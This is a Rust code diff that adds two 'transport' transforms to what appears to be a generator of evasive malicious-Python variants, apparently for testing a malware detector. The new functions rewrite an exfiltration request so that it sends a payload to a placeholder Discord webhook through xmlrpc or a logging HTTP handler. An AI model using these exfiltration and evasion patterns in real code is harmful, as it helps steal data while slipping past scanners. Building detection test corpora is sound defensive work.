@@ -57,6 +57,8 @@ pub static TRANSFORMS: &[Transform] = &[
     t("vars", "indirection", vars),
     t("methodcaller", "indirection", methodcaller),
     t("lambda", "indirection", lambda),
+    t("via-xmlrpc", "transport", via_xmlrpc),
+    t("via-log-handler", "transport", via_log_handler),
     t("coding-unicode-escape", "encoding", coding_unicode_escape),
     t("hex-exec", "encoding", hex_exec),
     t("base32-exec", "encoding", base32_exec),
@@ -395,6 +397,40 @@ fn lambda(seed: &Seed) -> Option<Variant> {
     let callee = seed.sink?.callee;
     rewrite_sink(seed, &[], move |_, _, args| {
         format!("(lambda f: f({args}))({callee})")
+    })
+}
+
+// ------------------------------------------------------------------ transport
+
+/// The exfiltration's HTTP request sent by another stdlib client (issue 21 item 8).
+fn other_transport(seed: &Seed, module: &str, call: impl Fn(&str) -> String) -> Option<Variant> {
+    if seed.sink?.callee != "urllib.request.urlopen" {
+        return None;
+    }
+    let src = code(seed)?;
+    let (start, _, close) = find_call(&src, "urllib.request.urlopen")?;
+    let body = format!(
+        "{}{}{}",
+        &src[..start],
+        call("'https://discord.com/api/webhooks/FAKE/FAKE'"),
+        &src[close + 1..]
+    );
+    Some(Variant::Packed(seed.with_carrier(
+        with_imports(seed.kind, &body, &[module]).into_bytes(),
+    )))
+}
+
+fn via_xmlrpc(seed: &Seed) -> Option<Variant> {
+    other_transport(seed, "xmlrpc.client", |url| {
+        format!("xmlrpc.client.ServerProxy({url}).push(_payload.decode())")
+    })
+}
+
+fn via_log_handler(seed: &Seed) -> Option<Variant> {
+    other_transport(seed, "logging.handlers", |_| {
+        "logging.handlers.HTTPHandler('discord.com', '/api/webhooks/FAKE/FAKE', method='POST', \
+         secure=True).emit(logging.makeLogRecord({'msg': _payload.decode()}))"
+            .to_owned()
     })
 }
 
